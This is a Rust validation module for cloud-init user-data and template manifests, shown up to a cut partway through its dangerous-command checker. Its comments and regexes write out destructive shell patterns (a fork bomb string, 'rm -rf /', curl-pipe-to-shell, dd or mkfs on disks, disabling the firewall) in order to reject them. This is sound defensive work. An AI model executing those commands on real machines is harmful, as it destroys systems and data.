//! Security and consistency validation of bundles.
//!
//! [`validate`] returns every [`Rejection`] at once, each with the [`Rule`] it broke,
//! a reason and a [`Location`] (file, line when known, YAML or manifest path).
//!
//! Shell commands are looked for in two passes that cover each other's blind spots:
//! every line of the raw user-data (catching commands under keys cloud-init may
//! run that this module does not model), and the decoded strings of `runcmd`,
//! `bootcmd` and `write_files` content (catching what YAML folding, quoting or base64
//! would hide from a line scan). Findings of the same rule on the same line are
//! reported once.

use std::collections::BTreeSet;
use std::fmt;
use std::sync::LazyLock;

use base64::Engine;
use regex::Regex;
use serde_yaml::Value;

use crate::bundle::{MANIFEST_FILE, USER_DATA_FILE};
use crate::render::{VARIABLE_REF, is_cloud_config, line_of};
use crate::{Bundle, Readiness, Transport, Variable};

/// Largest user-data accepted, in bytes.
pub const MAX_USER_DATA: usize = 64 * 1024;

/// A rule a bundle can break.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum Rule {
    /// A fork bomb (`:(){ :|:& };:` and its renamings, `fork while fork`).
    ForkBomb,
    /// Recursive deletion of `/` or a top-level system directory, or
    /// `--no-preserve-root`.
    RecursiveDeleteRoot,
    /// A download piped (or substituted) into a shell or interpreter from a host not
    /// on the trusted list, over plain HTTP, or from a URL that cannot be read.
    PipeToShell,
    /// `dd` or a redirection writing to a raw disk device.
    RawDiskWrite,
    /// `mkfs`/`mke2fs`/`mkswap` on a disk device.
    MkfsDisk,
    /// `chmod 777` (or `a+rwx`) on `/` or a top-level system directory.
    ChmodRoot,
    /// Disabling or flushing the firewall.
    FirewallDisabled,
    /// Root login over SSH with a password.
    SshRootPassword,
    /// A `${DECLOUD_*}` variable outside the closed set, or a malformed reference.
    UnknownVariable,
    /// User-data that is not parseable `#cloud-config` YAML or a `#!` script, or that
    /// hides content from inspection.
    MalformedUserData,
    /// User-data larger than [`MAX_USER_DATA`].
    UserDataTooLarge,
    /// A port number outside 1–65535.
    PortOutOfRange,
    /// The same port and transport exposed twice.
    DuplicatePort,
    /// Zero vCPUs, memory or disk in the minimum specs.
    ZeroSpecs,
    /// A readiness check on a port the template does not expose over TCP.
    ReadinessPortNotExposed,
    /// A readiness check with an invalid path or status.
    InvalidReadiness,
    /// A manifest field with an invalid value (slug, name, description, tags).
    InvalidManifest,
}

impl Rule {
    /// Stable identifier, for logs and API responses.
    pub const fn id(self) -> &'static str {
        match self {
            Self::ForkBomb => "fork-bomb",
            Self::RecursiveDeleteRoot => "rm-rf-root",
            Self::PipeToShell => "pipe-to-shell",
            Self::RawDiskWrite => "raw-disk-write",
            Self::MkfsDisk => "mkfs-disk",
            Self::ChmodRoot => "chmod-777-root",
            Self::FirewallDisabled => "firewall-disabled",
            Self::SshRootPassword => "ssh-root-password",
            Self::UnknownVariable => "unknown-variable",
            Self::MalformedUserData => "malformed-user-data",
            Self::UserDataTooLarge => "user-data-too-large",
            Self::PortOutOfRange => "port-out-of-range",
            Self::DuplicatePort => "duplicate-port",
            Self::ZeroSpecs => "zero-specs",
            Self::ReadinessPortNotExposed => "readiness-port-not-exposed",
            Self::InvalidReadiness => "invalid-readiness",
            Self::InvalidManifest => "invalid-manifest",
        }
    }
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.id())
    }
}

/// Where a rejection was found.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct Location {
    /// `template.toml` or `user-data`.
    pub file: &'static str,
    /// 1-based line in that file, when known.
    pub line: Option<usize>,
    /// Path inside the document, e.g. `runcmd[2]` or `ports[1]`.
    pub path: Option<String>,
}

impl fmt::Display for Location {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.file)?;
        if let Some(line) = self.line {
            write!(f, ":{line}")?;
        }
        if let Some(path) = &self.path {
            write!(f, " ({path})")?;
        }
        Ok(())
    }
}

/// One reason a bundle is refused.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejection {
    /// The rule broken.
    pub rule: Rule,
    /// Why, in words.
    pub reason: String,
    /// Where.
    pub location: Location,
}

impl fmt::Display for Rejection {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: [{}] {}", self.location, self.rule, self.reason)
    }
}

/// A source trusted to serve scripts that are piped into a shell.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustedSource {
    /// Host name; `*.example.com` matches any subdomain of `example.com`.
    pub host: String,
    /// URL path prefix the source is trusted for (`/` for the whole host).
    pub path_prefix: String,
}

impl TrustedSource {
    /// Parses `host` or `host/path/prefix`, e.g. `get.docker.com` or
    /// `raw.githubusercontent.com/nvm-sh/nvm/`.
    pub fn parse(spec: &str) -> Self {
        let spec = spec.trim().trim_start_matches("https://");
        match spec.split_once('/') {
            Some((host, path)) => Self {
                host: host.to_ascii_lowercase(),
                path_prefix: format!("/{path}"),
            },
            None => Self {
                host: spec.to_ascii_lowercase(),
                path_prefix: "/".into(),
            },
        }
    }

    fn matches(&self, host: &str, path: &str) -> bool {
        let host_ok = match self.host.strip_prefix("*.") {
            Some(suffix) => host
                .strip_suffix(suffix)
                .is_some_and(|sub| sub.ends_with('.') && sub.len() > 1),
            None => host == self.host,
        };
        host_ok && path.starts_with(&self.path_prefix)
    }
}

/// What validation allows; [`Policy::default`] is the platform's policy.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Policy {
    /// Sources whose scripts may be piped into a shell (over HTTPS only).
    pub trusted_sources: Vec<TrustedSource>,
}

/// Ubuntu's archive and security mirrors and the install scripts of a few
/// well-known projects, each served over HTTPS from the project's own domain.
pub const DEFAULT_TRUSTED_SOURCES: [&str; 9] = [
    "archive.ubuntu.com",
    "security.ubuntu.com",
    "ports.ubuntu.com",
    "*.archive.ubuntu.com",
    "get.docker.com",
    "download.docker.com",
    "sh.rustup.rs",
    "code-server.dev/install.sh",
    "deb.nodesource.com",
];

impl Default for Policy {
    fn default() -> Self {
        Self {
            trusted_sources: DEFAULT_TRUSTED_SOURCES
                .iter()
                .map(|s| TrustedSource::parse(s))
                .collect(),
        }
    }
}

impl Policy {
    /// Checks one URL; `Err` carries the reason it may not be piped into a shell.
    fn check_url(&self, url: &str) -> Result<(), String> {
        let Some(rest) = url.strip_prefix("https://") else {
            return Err(format!(
                "{url} is not fetched over https, so anyone on the path can change the script"
            ));
        };
        let (authority, path) = match rest.find(['/', '?', '#']) {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let host = authority
            .rsplit('@')
            .next()
            .unwrap_or_default()
            .split(':')
            .next()
            .unwrap_or_default()
            .to_ascii_lowercase();
        if self.trusted_sources.iter().any(|s| s.matches(&host, path)) {
            Ok(())
        } else {
            Err(format!(
                "{host} is not a trusted source for scripts piped into a shell"
            ))
        }
    }
}

/// Validates a bundle under the default [`Policy`].
pub fn validate(bundle: &Bundle) -> Result<(), Vec<Rejection>> {
    validate_with(bundle, &Policy::default())
}

/// Validates a bundle under `policy`, returning every rejection found.
pub fn validate_with(bundle: &Bundle, policy: &Policy) -> Result<(), Vec<Rejection>> {
    let mut out = Findings::default();
    check_manifest(bundle, &mut out);
    check_user_data(&bundle.user_data, policy, &mut out);
    let rejections = out.finish();
    if rejections.is_empty() {
        Ok(())
    } else {
        Err(rejections)
    }
}

#[derive(Default)]
struct Findings {
    list: Vec<Rejection>,
}

impl Findings {
    fn manifest(&mut self, rule: Rule, path: impl Into<String>, reason: impl Into<String>) {
        self.list.push(Rejection {
            rule,
            reason: reason.into(),
            location: Location {
                file: MANIFEST_FILE,
                line: None,
                path: Some(path.into()),
            },
        });
    }

    fn user_data(
        &mut self,
        rule: Rule,
        line: Option<usize>,
        path: Option<String>,
        reason: impl Into<String>,
    ) {
        self.list.push(Rejection {
            rule,
            reason: reason.into(),
            location: Location {
                file: USER_DATA_FILE,
                line,
                path,
            },
        });
    }

    /// Drops repeats of a rule on one user-data line (the raw and decoded passes
    /// find the same command), keeping the one that names a YAML path.
    fn finish(mut self) -> Vec<Rejection> {
        // Stable: manifest findings keep their discovery order; user-data findings
        // go by line, the decoded pass (which names a path) before the raw one.
        self.list.sort_by_key(|r| {
            (
                r.location.file != MANIFEST_FILE,
                r.location.line,
                r.location.path.is_none(),
            )
        });
        let mut seen = BTreeSet::new();
        self.list.retain(|r| {
            r.location.file != USER_DATA_FILE
                || r.location.line.is_none()
                || seen.insert((r.location.line, r.rule))
        });
        self.list
    }
}

fn check_manifest(bundle: &Bundle, out: &mut Findings) {
    let m = &bundle.manifest;
    let slug_ok = (1..=63).contains(&m.slug.len())
        && m.slug.split('-').all(|part| {
            !part.is_empty()
                && part
                    .bytes()
                    .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit())
        });
    if !slug_ok {
        out.manifest(
            Rule::InvalidManifest,
            "slug",
            format!(
                "slug {:?} must be 1-63 lowercase letters and digits in hyphen-separated words",
                m.slug
            ),
        );
    }
    if m.name.trim().is_empty() || m.name.len() > 100 {
        out.manifest(
            Rule::InvalidManifest,
            "name",
            "name must be 1-100 characters",
        );
    }
    if m.description.trim().is_empty() || m.description.len() > 2000 {
        out.manifest(
            Rule::InvalidManifest,
            "description",
            "description must be 1-2000 characters",
        );
    }
    for (i, tag) in m.tags.iter().enumerate() {
        let ok = (1..=32).contains(&tag.len())
            && tag
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-');
        if !ok {
            out.manifest(
                Rule::InvalidManifest,
                format!("tags[{i}]"),
                format!("tag {tag:?} must be 1-32 of [a-z0-9-]"),
            );
        }
    }
    let specs = &m.min_specs;
    for (field, value) in [
        ("vcpus", specs.vcpus),
        ("memory_gib", specs.memory_gib),
        ("disk_gib", specs.disk_gib),
    ] {
        if value == 0 {
            out.manifest(
                Rule::ZeroSpecs,
                format!("min_specs.{field}"),
                format!("minimum {field} must be at least 1"),
            );
        }
    }
    let mut exposed = BTreeSet::new();
    for (i, port) in m.ports.iter().enumerate() {
        if !(1..=65535).contains(&port.port) {
            out.manifest(
                Rule::PortOutOfRange,
                format!("ports[{i}].port"),
                format!("port {} is outside 1-65535", port.port),
            );
            continue;
        }
        let transport = port.protocol.transport();
        if !exposed.insert((port.port, transport == Transport::Tcp)) {
            out.manifest(
                Rule::DuplicatePort,
                format!("ports[{i}]"),
                format!("port {} is exposed twice over {transport:?}", port.port),
            );
        }
    }
    for (i, check) in m.readiness.iter().enumerate() {
        let port = match check {
            Readiness::CloudInit => continue,
            Readiness::Exec { command } => {
                let problem = match command.first() {
                    None => Some("the command is empty".to_owned()),
                    Some(program) if !program.starts_with('/') => Some(format!(
                        "program {program:?} must be an absolute path in the guest"
                    )),
                    Some(_) if command.len() > crate::bundle::MAX_EXEC_WORDS => Some(format!(
                        "the command has {} words, at most {} are allowed",
                        command.len(),
                        crate::bundle::MAX_EXEC_WORDS
                    )),
                    Some(_) => command
                        .iter()
                        .find(|w| w.len() > crate::bundle::MAX_EXEC_WORD_BYTES || w.contains('\0'))
                        .map(|_| {
                            format!(
                                "a word is longer than {} bytes or contains NUL",
                                crate::bundle::MAX_EXEC_WORD_BYTES
                            )
                        }),
                };
                if let Some(problem) = problem {
                    out.manifest(
                        Rule::InvalidReadiness,
                        format!("readiness[{i}].command"),
                        problem,
                    );
                }
                continue;
            }
            Readiness::Tcp { port } => *port,
            Readiness::Http {
                port,
                path,
                expect_status,
                ..
            } => {
                if !path.starts_with('/') || path.chars().any(char::is_whitespace) {
                    out.manifest(
                        Rule::InvalidReadiness,
                        format!("readiness[{i}].path"),
                        format!("path {path:?} must start with '/' and contain no whitespace"),
                    );
                }
                if !(100..=599).contains(expect_status) {
                    out.manifest(
                        Rule::InvalidReadiness,
                        format!("readiness[{i}].expect_status"),
                        format!("status {expect_status} is not an HTTP status"),
                    );
                }
                *port
            }
        };
        if !(1..=65535).contains(&port) {
            out.manifest(
                Rule::PortOutOfRange,
                format!("readiness[{i}].port"),
                format!("port {port} is outside 1-65535"),
            );
        } else if !exposed.contains(&(port, true)) {
            out.manifest(
                Rule::ReadinessPortNotExposed,
                format!("readiness[{i}].port"),
                format!("port {port} is not exposed over TCP in ports"),
            );
        }
    }
}

fn check_user_data(text: &str, policy: &Policy, out: &mut Findings) {
    if text.len() > MAX_USER_DATA {
        out.user_data(
            Rule::UserDataTooLarge,
            None,
            None,
            format!("{} bytes exceeds {MAX_USER_DATA}", text.len()),
        );
        return;
    }
    check_variables(text, out);
    if is_cloud_config(text) {
        check_cloud_config(text, policy, out);
    } else if !text.starts_with("#!") {
        out.user_data(
            Rule::MalformedUserData,
            Some(1),
            None,
            "user-data must start with #cloud-config or a #! script line; other formats \
             (#include, MIME multipart, jinja) cannot be inspected",
        );
    }
    // Raw pass over every line, whatever the format.
    scan_shell(text, 1, None, policy, out);
}

static BARE_VARIABLE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$DECLOUD_[A-Za-z0-9_]*").expect("valid regex"));
static BROKEN_VARIABLE_REF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\{DECLOUD_[A-Za-z0-9_]*(?:[^A-Za-z0-9_}]|$)").expect("valid regex")
});

fn check_variables(text: &str, out: &mut Findings) {
    for found in VARIABLE_REF.captures_iter(text) {
        let name = &found[1];
        if Variable::from_name(name).is_none() {
            let known: Vec<_> = Variable::ALL.iter().map(|v| v.name()).collect();
            out.user_data(
                Rule::UnknownVariable,
                Some(line_of(text, found.get(0).expect("group 0").start())),
                None,
                format!(
                    "${{{name}}} is not a DeCloud variable; known: {}",
                    known.join(", ")
                ),
            );
        }
    }
    for m in BARE_VARIABLE.find_iter(text) {
        out.user_data(
            Rule::UnknownVariable,
            Some(line_of(text, m.start())),
            None,
            format!(
                "{} is not substituted; write ${{{}}}",
                m.as_str(),
                &m.as_str()[1..]
            ),
        );
    }
    for m in BROKEN_VARIABLE_REF.find_iter(text) {
        out.user_data(
            Rule::UnknownVariable,
            Some(line_of(text, m.start())),
            None,
            format!(
                "unterminated variable reference {:?}",
                m.as_str().trim_end()
            ),
        );
    }
}

fn check_cloud_config(text: &str, policy: &Policy, out: &mut Findings) {
    let doc: Value = match serde_yaml::from_str(text) {
        Ok(doc) => doc,
        Err(e) => {
            out.user_data(
                Rule::MalformedUserData,
                e.location().map(|l| l.line()),
                None,
                format!("cloud-config is not valid YAML: {e}"),
            );
            return;
        }
    };
    let Value::Mapping(top) = &doc else {
        out.user_data(
            Rule::MalformedUserData,
            Some(2),
            None,
            "cloud-config must be a YAML mapping",
        );
        return;
    };
    for key in ["runcmd", "bootcmd"] {
        let Some(value) = top.get(key) else { continue };
        let Value::Sequence(items) = value else {
            out.user_data(
                Rule::MalformedUserData,
                find_line(text, &format!("{key}:")),
                Some(key.to_owned()),
                format!("{key} must be a list of commands"),
            );
            continue;
        };
        for (i, item) in items.iter().enumerate() {
            let command = match item {
                Value::String(s) => s.clone(),
                // cloud-init's schema wants every word a string: `[ufw, allow, 22]`
                // (a number) is refused at boot, so it is refused here.
                Value::Sequence(words) if words.iter().all(Value::is_string) => {
                    words.iter().map(scalar_text).collect::<Vec<_>>().join(" ")
                }
                _ => {
                    out.user_data(
                        Rule::MalformedUserData,
                        None,
                        Some(format!("{key}[{i}]")),
                        "a command must be a string or a list of string words (quote numbers)",
                    );
                    continue;
                }
            };
            // A list command's last word is usually the script (`[sh, -c, '…']`), and
            // is what appears verbatim on the source line.
            let anchor = match item {
                Value::Sequence(words) => words.last().map(scalar_text).unwrap_or_default(),
                _ => command.clone(),
            };
            let line = find_line(text, &anchor);
            scan_shell(
                &command,
                line.unwrap_or(0),
                Some(format!("{key}[{i}]")),
                policy,
                out,
            );
        }
    }
    if let Some(files) = top.get("write_files") {
        check_write_files(text, files, policy, out);
    }
    check_ssh(text, top, out);
}

fn scalar_text(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Number(n) => n.to_string(),
        Value::Bool(b) => b.to_string(),
        _ => String::new(),
    }
}

fn check_write_files(text: &str, files: &Value, policy: &Policy, out: &mut Findings) {
    let Value::Sequence(files) = files else {
        out.user_data(
            Rule::MalformedUserData,
            find_line(text, "write_files:"),
            Some("write_files".into()),
            "write_files must be a list",
        );
        return;
    };
    for (i, file) in files.iter().enumerate() {
        let path = format!("write_files[{i}]");
        let Value::Mapping(file) = file else {
            out.user_data(
                Rule::MalformedUserData,
                None,
                Some(path),
                "each write_files entry must be a mapping",
            );
            continue;
        };
        let Some(content) = file.get("content") else {
            continue;
        };
        let Value::String(content) = content else {
            out.user_data(
                Rule::MalformedUserData,
                None,
                Some(format!("{path}.content")),
                "content must be a string",
            );
            continue;
        };
        let encoding = file
            .get("encoding")
            .map(scalar_text)
            .unwrap_or_default()
            .to_ascii_lowercase();
        let decoded = match encoding.as_str() {
            "" | "text/plain" => content.clone(),
            "b64" | "base64" => {
                let compact: String = content.split_whitespace().collect();
                match base64::engine::general_purpose::STANDARD
                    .decode(compact)
                    .ok()
                    .and_then(|bytes| String::from_utf8(bytes).ok())
                {
                    Some(text) => text,
                    None => {
                        out.user_data(
                            Rule::MalformedUserData,
                            None,
                            Some(format!("{path}.content")),
                            "base64 content does not decode to UTF-8 text, so it cannot be inspected",
                        );
                        continue;
                    }
                }
            }
            other => {
                out.user_data(
                    Rule::MalformedUserData,
                    None,
                    Some(format!("{path}.encoding")),
                    format!(
                        "encoding {other:?} hides the content from inspection; use text or b64"
                    ),
                );
                continue;
            }
        };
        let first_line = decoded.lines().find(|l| !l.trim().is_empty());
        let line = first_line.and_then(|l| find_line(text, l));
        scan_shell(
            &decoded,
            line.unwrap_or(0),
            Some(format!("{path}.content")),
            policy,
            out,
        );
    }
}

fn check_ssh(text: &str, top: &serde_yaml::Mapping, out: &mut Findings) {
    let truthy = |key: &str| top.get(key).and_then(Value::as_bool);
    let pwauth = truthy("ssh_pwauth") == Some(true);
    if !pwauth {
        return;
    }
    let root_allowed = truthy("disable_root") == Some(false);
    let is_root_entry = |v: &Value| match v {
        Value::String(s) => s.trim_start().starts_with("root:"),
        Value::Mapping(m) => m.get("name").and_then(Value::as_str) == Some("root"),
        _ => false,
    };
    let chpasswd_root = match top.get("chpasswd") {
        Some(Value::Mapping(c)) => {
            let list = match c.get("list") {
                Some(Value::String(s)) => s.lines().any(|l| l.trim_start().starts_with("root:")),
                Some(Value::Sequence(items)) => items.iter().any(is_root_entry),
                _ => false,
            };
            let users = matches!(c.get("users"), Some(Value::Sequence(items)) if items.iter().any(is_root_entry));
            list || users
        }
        _ => false,
    };
    let users_root = match top.get("users") {
        Some(Value::Sequence(items)) => items.iter().any(|u| {
            is_root_entry(u) && u.get("lock_passwd").and_then(Value::as_bool) == Some(false)
        }),
        _ => false,
    };
    if root_allowed || chpasswd_root || users_root {
        out.user_data(
            Rule::SshRootPassword,
            find_line(text, "ssh_pwauth"),
            Some("ssh_pwauth".into()),
            "ssh_pwauth: true together with root login (disable_root: false or a root \
             password) allows password logins as root",
        );
    }
}

/// The first line of `text` containing the first line of `needle`, 1-based.
fn find_line(text: &str, needle: &str) -> Option<usize> {
    let needle = needle.lines().find(|l| !l.trim().is_empty())?.trim();
    // A prefix keeps matching when YAML folding or quoting changed the line's tail.
    let prefix: String = needle.chars().take(40).collect();
    text.lines()
        .position(|l| l.contains(prefix.as_str()))
        .map(|i| i + 1)
}

// ---------------------------------------------------------------------------------
// Shell command analysis.

static FUNCTION_DEF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?:function\s+)?([A-Za-z_:.][\w:.-]*)\s*\(\s*\)\s*\{([^}]*)\}")
        .expect("valid regex")
});
static FUNCTION_KEYWORD_DEF: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"function\s+([A-Za-z_:.][\w:.-]*)\s*\{([^}]*)\}").expect("valid regex")
});
static FORK_LOOP: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"fork\s+while\s+fork|while\s*\(?\s*(?:True|1|true)\s*\)?\s*:?\s*os\.fork\(\)")
        .expect("valid regex")
});
static PERMIT_ROOT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\bPermitRootLogin\s+yes\b").expect("valid regex"));
static REDIRECT_TO_DISK: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r">\s*/dev/(?:sd[a-z]|vd[a-z]|xvd[a-z]|hd[a-z]|nvme\d|mmcblk\d|disk/|mapper/)")
        .expect("valid regex")
});
static SUBSTITUTED_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?:\b(?:ba|z|k|da)?sh|\beval|\bsource|(?:^|[\s;&|])\.)\s[^;&|]*?(?:<\(|\$\(|`)\s*(?:sudo\s+)?(?:curl|wget)\b"#,
    )
    .expect("valid regex")
});
static URL: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"(?:https?|ftp)://[^\s'"`|;&)<>]+"#).expect("valid regex"));

/// Top-level directories whose recursive deletion or world-writable mode breaks the
/// system.
const PROTECTED: [&str; 16] = [
    "/", "/bin", "/boot", "/dev", "/etc", "/home", "/lib", "/lib64", "/opt", "/proc", "/root",
    "/sbin", "/srv", "/sys", "/usr", "/var",
];
const SHELLS: [&str; 14] = [
    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl", "ruby", "node", "php",
    "source", ".",
];
/// Words that run the command after them.
const WRAPPERS: [&str; 7] = ["sudo", "env", "nohup", "exec", "command", "nice", "doas"];

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Normalises a path argument: `/*`, `/.`, `//` and trailing slashes collapse.
fn normalise_target(word: &str) -> String {
    let mut t = word
        .trim_end_matches("/*")
        .trim_end_matches("/.")
        .to_owned();
    while t.len() > 1 && t.ends_with('/') {
        t.pop();
    }
    if t.is_empty() || t.bytes().all(|b| b == b'/') || word == "/*" {
        return "/".into();
    }
    t
}

fn is_protected(word: &str) -> bool {
    word.starts_with('/') && PROTECTED.contains(&normalise_target(word).as_str())
}

/// A simple command's words, and whether it is piped into the next one.
#[derive(Debug, Default)]
struct Segment {
    words: Vec<String>,
    pipes_into_next: bool,
}

/// Splits a logical line into simple commands. Quotes and substitutions are treated
/// as word boundaries, not as grouping: `bash -c "rm -rf /"` is analysed as the words
/// it contains, which is what a careful reader would do too.
fn segments(line: &str) -> Vec<Segment> {
    let mut out = vec![Segment::default()];
    let mut word = String::new();
    let mut chars = line.chars().peekable();
    let flush = |word: &mut String, out: &mut Vec<Segment>| {
        if !word.is_empty() {
            out.last_mut()
                .expect("never empty")
                .words
                .push(std::mem::take(word));
        }
    };
    while let Some(c) = chars.next() {
        match c {
            '|' => {
                flush(&mut word, &mut out);
                // `||` is "or", `|&` pipes stderr too.
                let or = chars.peek() == Some(&'|');
                if or || chars.peek() == Some(&'&') {
                    chars.next();
                }
                out.last_mut().expect("never empty").pipes_into_next = !or;
                out.push(Segment::default());
            }
            ';' | '&' | '(' | ')' | '{' | '}' | '`' | '\n' => {
                flush(&mut word, &mut out);
                out.push(Segment::default());
            }
            '"' | '\'' | '\\' => flush(&mut word, &mut out),
            c if c.is_whitespace() => flush(&mut word, &mut out),
            c => word.push(c),
        }
    }
    flush(&mut word, &mut out);
    out.retain(|s| !s.words.is_empty());
    out
}

/// The command a segment runs: its first word after wrappers, their options and
/// `VAR=value` assignments.
fn command_index(words: &[String]) -> Option<usize> {
    let mut i = 0;
    while i < words.len() {
        let w = basename(&words[i]);
        if WRAPPERS.contains(&w) || w.starts_with('-') || w.contains('=') {
            i += 1;
            // `sudo -u user cmd`: skip the option's argument too.
            if matches!(words[i - 1].as_str(), "-u" | "-g" | "-n") && i < words.len() {
                i += 1;
            }
            continue;
        }
        return Some(i);
    }
    None
}

/// Joins backslash-continued lines; yields (0-based first line, logical line).
fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut out = Vec::new();
    let mut current = String::new();
    let mut start = 0;
    for (i, line) in text.lines().enumerate() {
        if current.is_empty() {
            start = i;
        }
        match line.strip_suffix('\\') {
            Some(head) => {
                current.push_str(head);
                current.push(' ');
            }
            None => {
                current.push_str(line);
                out.push((start, std::mem::take(&mut current)));
            }
        }
    }
    if !current.is_empty() {
        out.push((start, current));
    }
    out
}

/// Looks for dangerous commands in shell text; `first_line` is the user-data line
/// the text starts on (0 when unknown).
fn scan_shell(
    text: &str,
    first_line: usize,
    path: Option<String>,
    policy: &Policy,
    out: &mut Findings,
) {
    for (offset, line) in logical_lines(text) {
        let at = (first_line > 0).then_some(first_line + offset);
        let mut report = |rule: Rule, reason: String| out.user_data(rule, at, path.clone(), reason);
        let code = strip_shell_comment(&line);
        if code.trim().is_empty() {
            continue;
        }
        if let Some(reason) = fork_bomb(code) {
            report(Rule::ForkBomb, reason);
        }
        if PERMIT_ROOT.is_match(code) {
            report(
                Rule::SshRootPassword,
                "PermitRootLogin yes allows root to log in with a password; use prohibit-password"
                    .into(),
            );
        }
        if let Some(m) = REDIRECT_TO_DISK.find(code) {
            report(
                Rule::RawDiskWrite,
                format!("{:?} overwrites a raw disk", m.as_str()),
            );
        }
        if SUBSTITUTED_DOWNLOAD.is_match(code) {
            for reason in untrusted_urls(code, policy) {
                report(
                    Rule::PipeToShell,
                    format!("download run by a shell: {reason}"),
                );
            }
        }
        let segs = segments(code);
        for (k, seg) in segs.iter().enumerate() {
            for (rule, reason) in dangerous_command(seg) {
                report(rule, reason);
            }
            if is_download(seg) && seg.pipes_into_next {
                let mut j = k;
                while j + 1 < segs.len() && segs[j].pipes_into_next {
                    j += 1;
                    if runs_shell(&segs[j]) {
                        let urls: String = seg.words.join(" ");
                        for reason in untrusted_urls(&urls, policy) {
                            report(
                                Rule::PipeToShell,
                                format!("download piped into a shell: {reason}"),
                            );
                        }
                        break;
                    }
                }
            }
        }
    }
}

/// Drops a trailing `# comment` (a `#` at a word start outside quotes).
fn strip_shell_comment(line: &str) -> &str {
    let mut quote: Option<char> = None;
    let mut prev = ' ';
    for (i, c) in line.char_indices() {
        match quote {
            Some(q) if c == q => quote = None,
            Some(_) => {}
            None if c == '\'' || c == '"' => quote = Some(c),
            None if c == '#' && prev.is_whitespace() => return &line[..i],
            None => {}
        }
        prev = c;
    }
    // A line whose first non-blank character is `#` is all comment, except a shebang.
    if line.trim_start().starts_with('#') && !line.starts_with("#!") {
        return "";
    }
    line
}

fn fork_bomb(code: &str) -> Option<String> {
    for re in [&*FUNCTION_DEF, &*FUNCTION_KEYWORD_DEF] {
        for found in re.captures_iter(code) {
            let name = &found[1];
            let body: String = found[2].chars().filter(|c| !c.is_whitespace()).collect();
            if body.contains(&format!("{name}|{name}&")) || body.contains(&format!("{name}&{name}"))
            {
                return Some(format!(
                    "function {name:?} starts copies of itself in the background: a fork bomb"
                ));
            }
        }
    }
    FORK_LOOP
        .find(code)
        .map(|m| format!("{:?} forks without end: a fork bomb", m.as_str()))
}

fn is_download(seg: &Segment) -> bool {
    seg.words
        .iter()
        .any(|w| matches!(basename(w), "curl" | "wget" | "fetch" | "aria2c"))
}

fn runs_shell(seg: &Segment) -> bool {
    command_index(&seg.words).is_some_and(|i| SHELLS.contains(&basename(&seg.words[i])))
}

fn untrusted_urls(code: &str, policy: &Policy) -> Vec<String> {
    let urls: Vec<&str> = URL.find_iter(code).map(|m| m.as_str()).collect();
    if urls.is_empty() {
        return vec!["the source URL cannot be read (a variable?), so it cannot be trusted".into()];
    }
    urls.into_iter()
        .filter_map(|u| policy.check_url(u).err())
        .collect()
}

/// Checks one simple command for the destructive patterns.
fn dangerous_command(seg: &Segment) -> Vec<(Rule, String)> {
    let mut found = Vec::new();
    let words = &seg.words;
    for (i, word) in words.iter().enumerate() {
        let name = basename(word);
        let args = &words[i + 1..];
        match name {
            "rm" => {
                let mut recursive = false;
                let mut no_preserve = false;
                let mut targets = Vec::new();
                let mut options_done = false;
                for a in args {
                    if !options_done && a == "--" {
                        options_done = true;
                    } else if !options_done && a.starts_with("--") {
                        recursive |= a == "--recursive";
                        no_preserve |= a == "--no-preserve-root";
                    } else if !options_done && a.starts_with('-') && a.len() > 1 {
                        recursive |= a.contains(['r', 'R']);
                    } else {
                        targets.push(a.as_str());
                    }
                }
                if no_preserve {
                    found.push((
                        Rule::RecursiveDeleteRoot,
                        "rm --no-preserve-root disables the guard against deleting /".into(),
                    ));
                } else if recursive && let Some(t) = targets.iter().find(|t| is_protected(t)) {
                    found.push((
                        Rule::RecursiveDeleteRoot,
                        format!("recursive rm of {t} destroys the system"),
                    ));
                }
            }
            "chmod" => {
                let world = args.iter().any(|a| {
                    matches!(
                        a.as_str(),
                        "777" | "0777" | "a+rwx" | "ugo+rwx" | "a=rwx" | "ugo=rwx" | "+rwx"
                    )
                });
                if world && let Some(t) = args.iter().find(|t| is_protected(t)) {
                    found.push((
                        Rule::ChmodRoot,
                        format!("chmod 777 on {t} makes the system world-writable"),
                    ));
                }
            }
            "dd" => {
                for a in args {
                    if let Some(dev) = a.strip_prefix("of=/dev/")
                        && !matches!(dev, "null" | "zero" | "stdout" | "stderr" | "tty")
                    {
                        found.push((
                            Rule::RawDiskWrite,
                            format!("dd {a} overwrites a raw device"),
                        ));
                    }
                }
            }
            n if n.starts_with("mkfs") || n == "mke2fs" || n == "mkswap" => {
                if let Some(dev) = args
                    .iter()
                    .find(|a| a.starts_with("/dev/") && !a.starts_with("/dev/loop"))
                {
                    found.push((Rule::MkfsDisk, format!("{n} on {dev} erases a disk")));
                }
            }
            "ufw" if args.first().is_some_and(|a| a == "disable") => {
                found.push((
                    Rule::FirewallDisabled,
                    "ufw disable turns the firewall off".into(),
                ));
            }
            "systemctl" | "service" => {
                let stops = args
                    .iter()
